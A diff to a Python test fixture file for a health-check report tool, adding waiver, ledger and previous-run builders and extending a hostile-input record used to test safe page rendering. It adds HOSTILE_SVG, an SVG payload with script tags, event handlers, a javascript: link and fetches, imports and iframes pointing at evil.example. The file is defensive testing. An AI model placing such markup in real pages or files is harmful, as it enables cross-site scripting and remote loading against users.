@@ -1,15 +1,16 @@
 """Records to make pages of, piece by piece; and one full of hostile text, one with too much of everything."""
 
-from datetime import UTC, datetime, timedelta
+from datetime import UTC, date, datetime, timedelta
 from typing import Any
 
 from domino_health.facts.observed import Observed, Outcome, Seen
+from domino_health.facts.previous import PreviousFinding, PreviousRun
 from domino_health.gate import decide
 from domino_health.redact import Redactor
-from domino_health.reports.record import Record
+from domino_health.reports.record import Record, Replay
 from domino_health.results import Result, State
-from domino_health.rules import Gate
-from domino_health.vocabulary import Finding, Ref, Severity, Unseen
+from domino_health.rules import Entry, Gate, Standing, Waived, Waiver
+from domino_health.vocabulary import Attachment, Finding, Ref, Severity, Unseen
 
 BEGAN = datetime(2026, 11, 24, 3, 12, 44, tzinfo=UTC)
 
@@ -44,6 +45,36 @@ def a_result(id: str = "SCHED-001", state: State = State.PASSED, **more: Any) ->
         "test": f"checks/test_{id.lower()}.py::test_it",
     }
     return Result(**{**defaults, **more})
+
+
+def a_waiver(check: str = "SCHED-001", subject: str = "deployment/*", **more: Any) -> Waiver:
+    defaults: dict[str, Any] = {
+        "reason": "accepted for now",
+        "owner": "platform team",
+        "approved_by": "Ada Lovelace",
+        "expires": date(2026, 12, 31),
+    }
+    return Waiver(check, subject, **{**defaults, **more})
+
+
+def an_entry(
+    standing: Standing = Standing.USED, findings: int = 1, days_left: int = 37, **waiver: Any
+) -> Entry:
+    waived = a_waiver(**{"expires": BEGAN.date() + timedelta(days=days_left), **waiver})
+    covered = tuple(f"prod-1: deployment/domino-platform/d-{n}" for n in range(findings))
+    return Entry(waived, standing, findings, days_left, covered)
+
+
+def previous(*findings: PreviousFinding, **more: Any) -> PreviousRun:
+    """The run of the day before, which found these."""
+    defaults: dict[str, Any] = {"gate": "default", "exit_status": 1, "states": {}}
+    began = BEGAN - timedelta(days=1)
+    return PreviousRun(folder="2026-11-23T031244Z", began=began, findings=findings, **{**defaults, **more})
+
+
+def seen_before(run: PreviousRun) -> dict[str, Observed]:
+    """The fact that tells of it."""
+    return {"previous": Observed("previous", (a_seen("latest", objects=(run,)),))}
 
 
 def a_seen(target: str = "prod-1", outcome: Outcome = Outcome.SEEN, **more: Any) -> Seen:
@@ -104,6 +135,20 @@ HOSTILE = (
     "\u202egnirts\u2066 ]]> --></style></details></main></template> ``code"
 )
 
+HOSTILE_SVG = """\
+<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="20"
+  onload="top.document.title='owned'">
+<script>top.document.title='owned'; fetch('https://evil.example/script')</script>
+<style>@import url(https://evil.example/style.css); rect { fill: url(https://evil.example/fill.svg) }</style>
+<image href="https://evil.example/image.png" xlink:href="https://evil.example/old.png" width="9" height="9"/>
+<use href="https://evil.example/use.svg#a"/>
+<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/>
+</foreignObject>
+<a href="javascript:top.document.title='owned'"><rect width="40" height="20" onclick="alert(1)"/></a>
+<animate onbegin="alert(1)" attributeName="x" dur="1s"/>
+</svg>"""
+"""A picture that would run scripts, and load things, were it more than a picture."""
+
 
 def an_attack() -> Record:
     """The same hostile text, longer than any screen, in every place that a text can come from."""
@@ -114,9 +159,18 @@ def an_attack() -> Record:
     common |= {"rationale": text, "remediation": text, "test": text, "details": text}
     common |= {"thresholds": {text: text}, "unseen": (unseen,)}
     common |= {"findings": (Finding(ref, text, Severity.HIGH, 2, (ref,)),)}
+    waiver = a_waiver(text, text, reason=text, owner=text, approved_by=text, ticket=text, source=text)
+    common |= {"waived": (Waived(Finding(ref, text, Severity.HIGH), waiver),), "controls": (text, text)}
+    common |= {"notes": text, "attachments": (an_attached_attack(text),)}
     results = [
         a_result(f"EVIL-00{number}", state, area=text[:500], **common) for number, state in enumerate(State)
     ]
+    before = previous(
+        PreviousFinding(text, text, text),
+        PreviousFinding("EVIL-000", text, text, waived=True),
+        gate=text,
+        states={text: text, **{f"EVIL-00{number}": "passed" for number in range(len(State))}},
+    )
     seen = a_seen(text, Outcome.FAILED, how=text, reason=text, cure=text, details=text)
     return a_record(
         *results,
@@ -126,9 +180,22 @@ def an_attack() -> Record:
         resolved=text,
         clock=text,
         version=text,
-        observed={text: Observed(text, (seen,)), "absent": Observed("absent", (), text)},
+        observed={
+            text: Observed(text, (seen,)),
+            "absent": Observed("absent", (), text),
+            **seen_before(before),
+        },
         many_clusters=True,
+        ledger=tuple(Entry(waiver, standing, 1, -1, (text,)) for standing in Standing),
+        runbooks={f"EVIL-00{number}": text for number in range(len(State))},
+        notes={f"EVIL-00{number}": text for number in range(len(State))},
+        replay=Replay(text, verified=False, profile=text, recorded_exit_status=0),
     )
+
+
+def an_attached_attack(text: str) -> Attachment:
+    """Text wherever an attachment has any, and a picture that would do harm."""
+    return Attachment(text, (text, text), ((text, text),), HOSTILE_SVG)
 
 
 def too_much() -> Record:
